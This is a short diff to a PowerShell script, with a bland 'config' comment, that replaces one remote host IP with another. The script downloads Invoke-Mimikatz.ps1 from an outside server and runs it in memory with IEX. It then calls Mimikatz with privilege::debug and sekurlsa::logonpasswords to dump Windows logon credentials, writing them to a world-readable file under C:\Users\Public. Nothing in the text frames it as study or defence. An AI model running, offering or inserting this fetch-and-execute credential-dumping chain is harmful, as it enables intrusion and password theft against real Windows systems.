@@ -1,3 +1,3 @@
-# init 4327 v4
-IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
+# config 0144 v4
+IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/Invoke-Mimikatz.ps1')
 Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
